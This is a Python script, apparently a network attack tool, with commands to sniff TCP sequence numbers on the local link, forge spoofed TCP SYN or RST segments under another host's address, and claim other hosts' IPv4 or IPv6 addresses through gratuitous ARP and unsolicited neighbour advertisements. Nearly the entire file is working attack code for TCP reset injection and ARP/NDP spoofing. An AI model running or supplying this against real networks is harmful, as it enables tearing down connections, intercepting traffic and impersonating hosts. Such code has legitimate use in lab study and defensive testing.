"""What an attacker on the link's network can do, and what it takes to aim exactly.

observe PORT                                        prints what comes next on the link: see below
forge FLAGS SOURCE PORT TARGET PORT SEQ COUNT STEP  sends COUNT segments in SOURCE's name, SEQ and on by STEP
announce ADDRESS                                    claims an address of another host: a gratuitous ARP, or an
                                                    unsolicited neighbour advertisement
Addresses are IPv4 or IPv6.
"""
import ipaddress
import socket
import struct
import sys

DEVICE = "eth0"
IPV4, ARP, IPV6 = 0x0800, 0x0806, 0x86DD
TCP = socket.IPPROTO_TCP
ICMPV6 = socket.IPPROTO_ICMPV6
FLAGS = {"SYN": 0x02, "RST": 0x04, "RST+ACK": 0x14}
WINDOW = 1024


def tcp_in(frame):
    """Returns where the TCP segment in a frame begins and ends, or None."""
    kind = struct.unpack_from("!H", frame, 12)[0]
    if kind == IPV4 and frame[23] == TCP:
        return 14 + (frame[14] & 15) * 4, 14 + struct.unpack_from("!H", frame, 16)[0]
    if kind == IPV6 and frame[20] == TCP:
        return 54, 54 + struct.unpack_from("!H", frame, 18)[0]
    return None


def segments(wire):
    """Yields source port, target port, sequence, acknowledgement and payload of each TCP segment."""
    while True:
        frame = wire.recv(65535)
        segment = tcp_in(frame)
        if segment:
            header, end = segment
            ports = struct.unpack_from("!HHII", frame, header)
            yield (*ports, frame[header + (frame[header + 12] >> 4) * 4 : end])


def observe(port):
    """Waits for a probe to the port and its acknowledgement: what either end expects next is exact then."""
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    wire.bind((DEVICE, 0))
    print("observing", flush=True)
    awaited = None
    for source, target, sequence, acknowledged, payload in segments(wire):
        if target == port and payload == b"P":
            awaited = (sequence + 1) & 0xFFFFFFFF
        elif source == port and acknowledged == awaited:
            print("next", target, sequence, acknowledged, flush=True)
            return


def words(data):
    return sum(struct.unpack("!%dH" % (len(data) // 2), data))


def checksum(total):
    total = (total & 0xFFFF) + (total >> 16)
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


def ip_header(source, target, length, protocol, hops):
    """A header with the sender's choice of source: the kernel fills in IPv4's checksum."""
    addresses = source.packed + target.packed
    if source.version == 4:
        return struct.pack("!BBHHHBBH8s", 0x45, 0, 20 + length, 0, 0, hops, protocol, 0, addresses)
    return struct.pack("!IHBB32s", 6 << 28, length, protocol, hops, addresses)


def raw_socket(target):
    family = socket.AF_INET if target.version == 4 else socket.AF_INET6
    raw = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.connect((str(target), 0))
    return raw


def forge(flags, source, source_port, target, target_port, sequence, count, step):
    addresses = source.packed + target.packed
    base = words(addresses) + TCP + 20 + source_port + target_port + (0x5000 | FLAGS[flags]) + WINDOW
    ip = ip_header(source, target, 20, TCP, 64)
    raw = raw_socket(target)
    for i in range(count):
        guess = (sequence + i * step) & 0xFFFFFFFF
        check = checksum(base + (guess >> 16) + (guess & 0xFFFF))
        raw.send(ip + struct.pack(
            "!HHIIHHHH", source_port, target_port, guess, 0, 0x5000 | FLAGS[flags], WINDOW, check, 0))
    print("sent", count, flush=True)


def announce(address):
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((DEVICE, ARP if address.version == 4 else IPV6))
    own = wire.getsockname()[4]
    if address.version == 4:
        claim_by_arp(wire, own, address.packed)
    else:
        claim_by_advertisement(wire, own, address)


def claim_by_arp(wire, own, ip):
    for operation in (1, 2):
        wire.send(b"\xff" * 6 + own + b"\x08\x06" + struct.pack("!HHBBH", 1, IPV4, 6, 4, operation)
                  + own + ip + b"\xff" * 6 + ip)


def claim_by_advertisement(wire, own, address):
    """RFC 4861, 4.4: to all nodes, with the override flag and the own hardware address."""
    everybody = ipaddress.ip_address("ff02::1")
    body = struct.pack("!I", 0x20000000) + address.packed + b"\x02\x01" + own
    total = words(address.packed + everybody.packed + body) + ICMPV6 + 4 + len(body) + (136 << 8)
    message = struct.pack("!BBH", 136, 0, checksum(total)) + body
    wire.send(b"\x33\x33\x00\x00\x00\x01" + own + struct.pack("!H", IPV6)
              + ip_header(address, everybody, len(message), ICMPV6, 255) + message)


if sys.argv[1] == "observe":
    observe(int(sys.argv[2]))
elif sys.argv[1] == "forge":
    _, _, flags, source, source_port, target, target_port, sequence, count, step = sys.argv
    forge(flags, ipaddress.ip_address(source), int(source_port), ipaddress.ip_address(target), int(target_port),
          int(sequence), int(count), int(step))
else:
    announce(ipaddress.ip_address(sys.argv[2]))
